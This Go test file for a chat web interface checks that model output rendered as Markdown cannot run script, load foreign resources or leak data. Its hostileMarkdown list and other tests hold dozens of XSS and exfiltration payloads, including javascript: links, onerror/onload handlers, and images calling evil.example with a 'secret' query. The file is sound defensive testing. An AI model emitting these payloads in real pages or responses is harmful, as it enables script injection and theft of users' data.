package browser

import (
	"fmt"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/performance"

	"github.com/sluice-sse/sluice/internal/e2e/e2etest"
)

// openMarkdown opens the page, with the functions of markdown.browser.js in it.
func openMarkdown(t *testing.T, b browser) *tab {
	t.Helper()
	tests, err := os.ReadFile(filepath.Join(e2etest.Root(), "bridge", "web", "testdata", "markdown.browser.js"))
	if err != nil {
		t.Fatal(err)
	}
	p := b.open(t, e2etest.Start(t, "one process", nil, "--echo-interval=1ms").HTTP)
	eval[any](p, string(tests))
	return p
}

func testPageMarkdown(t *testing.T, b browser) {
	d := e2etest.NewDictation(t)
	p := b.open(t, e2etest.Start(t, "one process", d.Env()).HTTP)
	p.ask("All that Markdown can be")
	for text := longMarkdown; text != ""; {
		n := min(7, len(text))
		d.Say(text[:n])
		text = text[n:]
	}
	d.End()
	p.reads("#status", "Complete")
	p.reads(answerText, longMarkdown)
	for selector, want := range map[string]string{
		"h3": "One", "em": "three", "strong": "four", "p > code": "five", "s": "six", "h4": "Nine", "ul > li:first-child": "ten",
		"ol > li:last-child": "thirteen", "blockquote > blockquote": "\nfifteen\n", ".code span:not(:empty)": "go", "th:first-child": "seventeen", "td.right": "20", "td.center": "21",
		`a[href="https://example.com/"][title=eight]`: "seven", `a.image[href="https://example.com/a.png"]`: "Image: an image", ".code:last-of-type code": "indented code",
	} {
		if got := p.text(".markdown " + selector); strings.TrimSpace(got) != strings.TrimSpace(want) {
			t.Errorf("%s reads %q, want %q", selector, got, want)
		}
	}
	p.wait(`document.querySelector(".answer > .text").hidden`)
}

func testPageText(t *testing.T, b browser) {
	const markup = `<img src=x onerror="window.ran=1"><script>window.ran=1</script><svg onload=window.ran=1>&lt;`
	d := e2etest.NewDictation(t)
	p := b.open(t, e2etest.Start(t, "one process", d.Env()).HTTP)
	p.ask(markup)
	d.Send(`{"reasoning_content":` + quote(markup) + `}`)
	d.Say(markup[:9], markup[9:])
	d.Send(`{"refusal":` + quote(markup) + `}`)
	d.Send(`{"tool_calls":[{"index":0,"id":"c","type":"function","function":{"name":` + quote(markup) + `,"arguments":` + quote(markup) + `}}]}`)
	d.End()
	p.reads("#status", "Complete")
	p.reads(".question .text", markup)
	p.reads(answerText, markup)
	p.reads(".answer .reasoning > div", markup)
	p.reads(".answer .refusal", markup)
	p.reads(".answer .call > div", markup)
	p.reads(".answer .call > summary", "Calls "+markup)
	if !eval[bool](p, `window.ran === undefined && !document.querySelector("#log :is(img, script, svg)")`) {
		t.Error("what the model said became part of the page")
	}
	if n := p.count("/x$"); n != 0 {
		t.Error("the page asked for the model's image")
	}
}

// What a model says may have been written by somebody else: a page that it read, a file.
// The ways are those of OWASP's sheets, of markdown-it's own tests, and of reports:
// vercel/streamdown, earendil-works/pi#3531 (javascript: links), openai-node#1432 (an
// image that tells its host).
var hostileMarkdown = []string{
	`[a](javascript:alert(1))`, `[a](JaVaScRiPt:alert(1))`, "[a](java\nscript:alert(1))", "[a](java\tscript:alert(1))", `[a](&#106;avascript:alert(1))`, `[a](javascript&colon;alert(1))`,
	"[a](\x01javascript:alert(1))", `[a](data:text/html,<script>window.ran=1</script>)`, `[a](vbscript:x)`, `[a](file:///etc/passwd)`, `[a](blob:x)`, `[a](/v1/models)`, `[a](#log)`, `[a](?x)`, `[a]()`,
	`[a](//evil.example)`, `[a](\\evil.example)`, `<javascript:alert(1)>`, `<data:text/html,x>`, `[a]: javascript:alert(1)` + "\n\n[a]", `[a](https://x.example "\" onmouseover=window.ran=1 ")`,
	`[a](https://x.example/"onmouseover=window.ran=1)`, `![a](javascript:window.ran=1)`, `![a](https://evil.example/?q=secret)`, `![a](//evil.example/x)`, `![a](/v1/models)`,
	`![a](data:image/svg+xml,<svg onload=window.ran=1>)`, `![a](data:text/html;base64,PHNjcmlwdD4=)`, `![![a](https://evil.example/1)](https://evil.example/2)`, `[![a](https://evil.example/1)](javascript:window.ran=1)`,
	`<img src=x onerror=window.ran=1>`, `<script>window.ran=1</script>`, `<svg><script>window.ran=1</script></svg>`, `<iframe srcdoc="<script>parent.ran=1</script>">`, `<style>*{display:none}</style>`, `<a href=javascript:window.ran=1>x</a>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>`, `<form action=https://evil.example><input name=q><button>x`, `<base href=https://evil.example>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<link rel=stylesheet href=https://evil.example>`, "<!--\n--><img src=x onerror=window.ran=1>", "```html\n<img src=x onerror=window.ran=1>\n```", "```\"><img src=x onerror=window.ran=1>\nx\n```", "`<img src=x onerror=window.ran=1>`",
	"|<img src=x onerror=window.ran=1>|\n|-|\n|<script>window.ran=1</script>|", "# <img src=x onerror=window.ran=1>", "> <iframe src=https://evil.example>", "- <object data=https://evil.example>", "1. <video src=https://evil.example>",
	"99999999999. a", "-1. a", `www.evil.example https://user:pass@evil.example javascript://x.example/%0aalert(1)`, "[a](https://xn--80ak6aa92e.com)", `[__proto__]: https://x.example` + "\n\n[__proto__] [constructor] [toString]",
	"[a](mailto:a@b.example?subject=x)", "\u202etxt.exe", "[\u202egro.elpmaxe](https://evil.example)",
}

func testPageHostileMarkdown(t *testing.T, b browser) {
	p := openMarkdown(t, b)
	for _, text := range hostileMarkdown {
		if got := eval[string](p, `markdownTests.harm(`+quote(text)+`)`); got != "" {
			t.Errorf("%q makes %s", text, got)
		}
	}
	p.click("#input")
	eval[any](p, `void (document.querySelector("#input").value = `+quote(strings.Join(hostileMarkdown, " · "))+`)`)
	p.enter(0) // the embedded engine says it back
	p.reads("#status", "Complete")
	if !eval[bool](p, `window.ran === undefined`) {
		t.Error("what the model said ran")
	}
	for _, request := range p.requests {
		if !regexp.MustCompile(`^(GET /[\w.-]*|GET /vendor/markdown-it.mjs|GET /v1/models|POST /v1/completions)$`).MatchString(request) {
			t.Errorf("the page asked for %s", request)
		}
	}

	call(p, performance.Enable, performance.EnableParams{})
	for _, name := range eval[[]string](p, `markdownTests.nasty`) {
		once, much := p.drawing(name)
		t.Logf("%s: %v, four times as much %v", name, once, much)
		if much > 2*time.Second || much > max(100*time.Millisecond, 8*once) {
			t.Errorf("%s: %v, and four times as much %v", name, once, much)
		}
	}
}

// drawing returns the time that it takes to draw one of the nasty texts, and four times as
// much of it. What is linear takes four times as long, what is quadratic sixteen times. It
// is the thread's own time, as that by the clock is also others' on the machine; of several,
// the shortest, as sometimes memory is collected.
func (p *tab) drawing(name string) (once, much time.Duration) {
	p.t.Helper()
	draw := func(times int) time.Duration {
		p.t.Helper()
		eval[any](p, fmt.Sprintf(`markdownTests.prepare(%s, %d)`, quote(name), times))
		before := p.threadTime()
		eval[any](p, `markdownTests.drawPrepared()`)
		return (p.threadTime() - before).Round(time.Millisecond)
	}
	once, much = draw(1), math.MaxInt64
	for i := 0; i < 5 && much > min(1500*time.Millisecond, max(100*time.Millisecond, 8*once)); i++ {
		once, much = min(once, draw(1)), min(much, draw(4))
	}
	return once, much
}

// threadTime returns the processor time that the page's main thread has had.
func (p *tab) threadTime() time.Duration {
	p.t.Helper()
	for _, m := range call(p, performance.GetMetrics, cdp.Empty{}).Metrics {
		if m.Name == "ThreadTime" {
			return time.Duration(m.Value * float64(time.Second))
		}
	}
	p.t.Fatal("the browser does not tell the time of a thread")
	return 0
}

func testPageMarkdownParts(t *testing.T, b browser) {
	p := openMarkdown(t, b)
	for range 10 {
		if got := eval[string](p, `markdownTests.differences(100)`); got != "" {
			t.Fatalf("what came in pieces is not what came whole: %s", got)
		}
	}
	// Of what was drawn, only the last block is touched again.
	touched := eval[[]string](p, `(async () => {
		const { Markdown } = await import("/markdown.js");
		const element = document.createElement("div");
		const markdown = new Markdown(element);
		const touched = new Set();
		for (let i = 0; i < 500; i++) {
			const settled = [...element.children].slice(0, -1);
			const observer = new MutationObserver(() => {});
			for (const block of settled) observer.observe(block, { subtree: true, childList: true, characterData: true, attributes: true });
			for (const piece of ["para", "graph " + i + "\n", "\n- a", "\n- b\n\n"]) {
				markdown.add(piece);
				markdown.render();
			}
			for (const { target } of observer.takeRecords()) touched.add(target.nodeName);
			if (settled.some((block) => block.parentNode !== element)) touched.add("a block was made anew");
		}
		return [...touched];
	})()`)
	if len(touched) > 0 {
		t.Errorf("blocks that were complete are touched again: %q", touched)
	}
}

func testPageSelection(t *testing.T, b browser) {
	d := e2etest.NewDictation(t)
	p := b.open(t, e2etest.Start(t, "one process", d.Env()).HTTP)
	p.ask("Hello")
	d.Say("A first *paragraph*.\n\nA second **one that", " is being")
	p.wait(`document.querySelector(".markdown")?.textContent.endsWith("is being") === true`)
	eval[any](p, `(() => {
		const [first, second] = document.querySelectorAll(".markdown p");
		getSelection().setBaseAndExtent(first.querySelector("em").firstChild, 2, second.firstChild, 8);
	})()`)
	const want = `"ragraph.\n\nA second"`
	p.wait(`JSON.stringify(getSelection().toString()) === ` + quote(want))
	d.Say(" written** with `code`", "\n\n", "and a third.\n")
	d.End()
	p.reads("#status", "Complete")
	if got := eval[string](p, `JSON.stringify(getSelection().toString())`); got != want {
		t.Errorf("selected is %s, want %s", got, want)
	}
}

func testPageCopies(t *testing.T, b browser) {
	const text = "Run *this*:\n\n```sh\necho 1\necho 2\n```\n"
	d := e2etest.NewDictation(t)
	p := b.open(t, e2etest.Start(t, "one process", d.Env()).HTTP)
	p.ask("How?")
	d.Say(text)
	d.End()
	p.reads("#status", "Complete")
	for _, way := range []struct{ name, prepare string }{
		{"clipboard", `navigator.clipboard.writeText = async (text) => { window.copied = text; }`},
		{"no clipboard, as without https", `navigator.clipboard.writeText = () => Promise.reject(new Error("not allowed"));
			document.execCommand = () => { window.copied = document.activeElement.value; }`},
	} {
		eval[any](p, way.prepare+"; 0")
		for selector, want := range map[string]string{".answer > .bar .copy": text, ".code .copy": "echo 1\necho 2"} {
			eval[any](p, `window.copied = null`)
			p.click(selector)
			p.wait(`window.copied !== null`)
			if got := eval[string](p, `window.copied`); got != want {
				t.Errorf("%s: %s copies %q, want %q", way.name, selector, got, want)
			}
			p.reads(selector, "Copied")
			p.reads("#said", "Copied")
			p.wait(`document.activeElement.matches(` + quote(selector) + `)`)
		}
	}
	seen := func(text, markdown bool) {
		t.Helper()
		p.wait(fmt.Sprintf(`document.querySelector(".answer > .text").hidden === %v && document.querySelector(".answer > .markdown").hidden === %v`, !text, !markdown))
		p.wait(fmt.Sprintf(`document.querySelector(".answer > .bar [aria-pressed]").ariaPressed === "%v"`, text))
	}
	seen(false, true)
	p.click(".answer > .bar [aria-pressed]")
	seen(true, false)
	p.click(".answer > .bar [aria-pressed]")
	seen(false, true)

	// What continues a prompt is text.
	p.click("#anew")
	p.click("[value=prompt] + span")
	p.ask("A *prompt*")
	d.Say(" of *text*")
	d.End()
	p.reads("#status", "Complete")
	p.wait(`!document.querySelector(".answer > .text").hidden && !document.querySelector(".answer > .markdown")`)
	p.click(".answer > .bar [aria-pressed]")
	seen(false, true)
	p.reads(".answer > .markdown em", "text")
}

func testPageImages(t *testing.T, b browser) {
	// One red pixel.
	const pixel = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"
	d := e2etest.NewDictation(t)
	p := b.open(t, e2etest.Start(t, "one process", d.Env()).HTTP)
	p.ask("Draw")
	d.Say("Here: ")
	for _, url := range []string{pixel, "https://images.example/secret.png", "javascript:window.ran=1", "data:image/svg+xml,<svg onload=window.ran=1>"} {
		d.Send(`{"images":[{"type":"image_url","image_url":{"url":` + quote(url) + `}}]}`)
	}
	d.End()
	p.reads("#status", "Complete")
	p.wait(`document.querySelector(".answer .pictures img:only-of-type").naturalWidth === 1`)
	p.reads(".answer .pictures img + a", "Image at images.example")
	p.wait(`[...document.querySelectorAll(".answer .pictures > *")].map((e) => e.localName).join() === "img,a,p,p"`)
	if p.count("secret") != 0 {
		t.Error("the page asked for an image of another host by itself")
	}
}
